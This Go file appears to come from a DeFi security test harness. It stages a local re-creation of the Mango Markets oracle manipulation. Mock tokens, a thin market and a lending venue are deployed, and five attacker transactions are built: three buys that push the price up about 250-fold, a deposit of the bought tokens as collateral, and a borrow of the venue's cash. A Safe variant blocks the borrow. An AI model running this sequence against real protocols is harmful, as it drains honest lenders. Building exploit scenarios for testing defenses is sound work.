package attack

import (
	"context"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// ThinPoolOracle re-creates Mango Markets (Oct 2022): a venue marks
// collateral to a thin market's price, and the attacker pushes that price up
// with its own money over several blocks (no flash loan), then borrows the
// venue's dollars against the inflated collateral.
//
// Setup deploys USDx, MNGOx, ThinPoolSpotMarket (a thin constant-product
// market with its own buyBase/sellBase/lastPrice interface, seeded with
// 1,000,000 MNGOx + 20,000 USDx: 0.02 USDx) and ThinPoolPerpMarket (lends
// USDx against MNGOx at 50% initial margin) with 2,000,000 USDx from two
// honest lenders. The attacker's EOA holds 300,000 USDx and has approved
// both markets. The exploit is five transactions, each mined in its own
// block: three buys of 100,000 USDx of MNGOx (the price goes ~250x), a
// collateral deposit of everything bought, and a borrow of all the USDx.
//
// Vulnerable: the venue's oracle is the market's lastPrice. Safe: it is an
// owner-maintained reference price (0.02); the buys still happen (the
// attacker overpays) and the borrow reverts.
//
// Units: USDx; MNGOx at its pre-attack 0.02 USDx. ProtocolLoss is the
// venue's value decrease (USDx lent minus the MNGOx collateral it keeps).
type ThinPoolOracle struct{}

// thinPoolBuys are the attacker's buys, one per block.
func thinPoolBuys() []*big.Int { return []*big.Int{tokens(100_000), tokens(100_000), tokens(100_000)} }

// Info implements Scenario.
func (ThinPoolOracle) Info() Info {
	return Info{
		Name:     "thin-pool-oracle",
		Class:    "multi-block oracle manipulation of a thin market (no flash loan)",
		Incident: "Mango Markets Oct 2022",
		Summary: "With its own 300,000 USDx the attacker buys a thin market's token over three blocks, lifting its price " +
			"~250x, then posts it as collateral on a venue marked to that market and borrows all of its USDx.",
	}
}

// Setup implements Scenario.
func (ThinPoolOracle) Setup(ctx context.Context, env *Env, v Variant) (Staged, error) {
	const name = "thin-pool-oracle"
	if err := prepare(name, env, v, 2); err != nil {
		return nil, err
	}
	c, d := env.Client, env.Deployer
	usd, err := deployUSDx(ctx, c, d)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	mngo, err := deployToken(ctx, c, d, "Mango X", "MNGOx", tokens(1_000_000_000))
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	spot, err := deployNamed(ctx, c, d, "ThinPoolSpotMarket", mngo.Address, usd.Address, env.Guardian.Address)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	seedBase, seedQuote := tokens(1_000_000), tokens(20_000)
	if err := transact(ctx, mngo, d, nil, "approve seed", "approve", spot.Address, seedBase); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := approveAndCall(ctx, usd, spot, d, seedQuote, "seed", seedBase, seedQuote); err != nil {
		return nil, fmt.Errorf("%s: seed market: %w", name, err)
	}
	fair := new(big.Int).Div(new(big.Int).Mul(seedQuote, unitOne()), seedBase)
	venue, err := deployNamed(ctx, c, d, "ThinPoolPerpMarket", usd.Address, mngo.Address, spot.Address, fair, env.Guardian.Address, v == Safe)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	for _, u := range env.Users[:2] {
		if err := giveTokens(ctx, usd, d, tokens(1_000_000), u.Address); err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		if err := approveAndCall(ctx, usd, venue, u, tokens(1_000_000), "supply", tokens(1_000_000)); err != nil {
			return nil, fmt.Errorf("%s: honest lender: %w", name, err)
		}
	}
	a := env.Attacker
	if err := giveTokens(ctx, usd, d, tokens(300_000), a.Address); err != nil {
		return nil, fmt.Errorf("%s: attacker capital: %w", name, err)
	}
	if err := transact(ctx, usd, a, nil, "attacker approves the market", "approve", spot.Address, tokens(300_000)); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if err := transact(ctx, mngo, a, nil, "attacker approves the venue", "approve", venue.Address, tokens(1_000_000_000)); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	s := &incidentStaged{
		client: c,
		targets: []Target{
			{Name: "ThinPoolPerpMarket", Address: venue.Address, Pausable: true},
			{Name: "ThinPoolSpotMarket", Address: spot.Address, Pausable: true},
		},
		book: &ledger{client: c, unit: "USDx", assets: []pricedAsset{
			{symbol: "USDx", token: usd, price: unitOne()},
			{symbol: "MNGOx", token: mngo, price: fair},
		}},
		attackerEOA: a.Address,
		attackers:   []common.Address{a.Address},
		victims:     []common.Address{venue.Address},
	}
	s.build = func(ctx context.Context) ([]*types.Transaction, error) {
		// The transactions are signed before any is mined, so the amounts
		// come from the market's reserves and its own constant-product math.
		base, err := spot.CallBig(ctx, "baseReserve")
		if err != nil {
			return nil, fmt.Errorf("%s: baseReserve: %w", name, err)
		}
		quote, err := spot.CallBig(ctx, "quoteReserve")
		if err != nil {
			return nil, fmt.Errorf("%s: quoteReserve: %w", name, err)
		}
		cash, err := usd.CallBig(ctx, "balanceOf", venue.Address)
		if err != nil {
			return nil, fmt.Errorf("%s: venue cash: %w", name, err)
		}
		var txs []*types.Transaction
		bought := new(big.Int)
		for _, in := range thinPoolBuys() {
			out := cpOut(base, quote, in)
			tx, err := buildCall(ctx, c, a, spot, nil, "buyBase", in, out)
			if err != nil {
				return nil, fmt.Errorf("%s: %w", name, err)
			}
			txs = append(txs, tx)
			bought.Add(bought, out)
			quote = new(big.Int).Add(quote, in)
			base = new(big.Int).Sub(base, out)
		}
		dep, err := buildCall(ctx, c, a, venue, nil, "depositCollateral", bought)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		// limit = collateral * price / 1e18 * 5000 / 10000 at the pushed price.
		price := new(big.Int).Div(new(big.Int).Mul(quote, unitOne()), base)
		limit := new(big.Int).Div(new(big.Int).Mul(bought, price), unitOne())
		limit.Div(limit.Mul(limit, big.NewInt(5000)), big.NewInt(10_000))
		amount := cash
		if limit.Cmp(cash) < 0 {
			amount = limit
		}
		borrow, err := buildCall(ctx, c, a, venue, nil, "borrow", amount)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", name, err)
		}
		return append(txs, dep, borrow), nil
	}
	if err := s.baseline(ctx); err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	return s, nil
}

// cpOut is ThinPoolSpotMarket's buyBase output for quoteIn at the given
// reserves (0.3% fee).
func cpOut(base, quote, quoteIn *big.Int) *big.Int {
	num := new(big.Int).Mul(base, quoteIn)
	num.Mul(num, big.NewInt(997))
	den := new(big.Int).Mul(quote, big.NewInt(1000))
	den.Add(den, new(big.Int).Mul(quoteIn, big.NewInt(997)))
	return num.Div(num, den)
}
